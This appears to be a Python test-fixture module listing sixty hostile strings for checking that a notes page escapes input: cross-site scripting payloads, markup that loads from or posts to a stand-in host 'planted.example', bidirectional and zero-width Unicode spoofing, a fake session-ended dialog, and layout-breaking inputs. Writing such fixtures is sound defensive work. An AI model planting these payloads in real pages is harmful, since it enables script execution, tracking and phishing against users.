"""What strangers plant in notes: 60 texts that would run, load, mislead or break a page."""

from __future__ import annotations

MARK = "planted"
"""A word that each has, so that a search finds it."""
_LOADS = "http://planted.example/x"

TEXTS: tuple[str, ...] = (
    # scripts and handlers
    "<script>window.ran=1</script>",
    "<ScRiPt src=http://planted.example/x.js></sCrIpT>",
    "</script><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "</bdi></pre></details><script>window.ran=1</script>",
    '"><script>window.ran=1</script>',
    "'><img src=x onerror=window.ran=1>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<body onload=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<marquee onstart=window.ran=1>",
    "<math><mtext><img src=x onerror=window.ran=1></mtext></math>",
    "<template><script>window.ran=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "<!--><script>window.ran=1</script>-->",
    "<![CDATA[<script>window.ran=1</script>]]>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "{{ 7*7 }}{% include 'refused.html' %}",
    "${window.ran=1}`${window.ran=1}`",
    # what loads
    f"<img src={_LOADS}.png>",
    f"<link rel=stylesheet href={_LOADS}.css>",
    f"<iframe src={_LOADS}></iframe>",
    f"<object data={_LOADS}></object>",
    f"<embed src={_LOADS}>",
    f"<audio autoplay src={_LOADS}></audio>",
    f"<base href={_LOADS}/>",
    f"<meta http-equiv=refresh content='0;url={_LOADS}'>",
    f"<style>@import '{_LOADS}.css';</style>",
    f'<p style="background:url({_LOADS}.png)">',
    f"<form action={_LOADS}><button>Approve</button></form>",
    f"<a ping={_LOADS} href={_LOADS}>here</a>",
    f"![picture]({_LOADS}.png)",
    f"![[{_LOADS}.png]]",
    f"[link]({_LOADS})",
    "[run](javascript:window.ran=1)",
    "<a href=javascript:window.ran=1>here</a>",
    '<a href="data:text/html,<script>opener.ran=1</script>">here</a>',
    f"<svg><image href={_LOADS}.png></svg>",
    f"<svg><use href={_LOADS}.svg#a></svg>",
    # what misleads
    "\u202egnp.exe\u202c says it",
    "\u2066\u2067 turned \u2069 about",
    "‮‮‮ all of the page",
    "zero\u200bwidth\u2060joined\ufeff",
    "\U000e0041\U000e0042 hidden tags",
    "<button type=submit>Approve</button>",
    "<dialog open>Your session ended</dialog>",
    "Ｆｕｌｌ ｗｉｄｔｈ ＜ｓｃｒｉｐｔ＞",
    # what breaks a layout
    "x" * 10_000,
    "wide " * 2_000,
    "ﷺ" * 400,
    "z̡̛̛̛͎̟" * 300,
    "</div></main></body></html>",
    "<plaintext>",
    "<textarea>",
    "<select><option>",
)
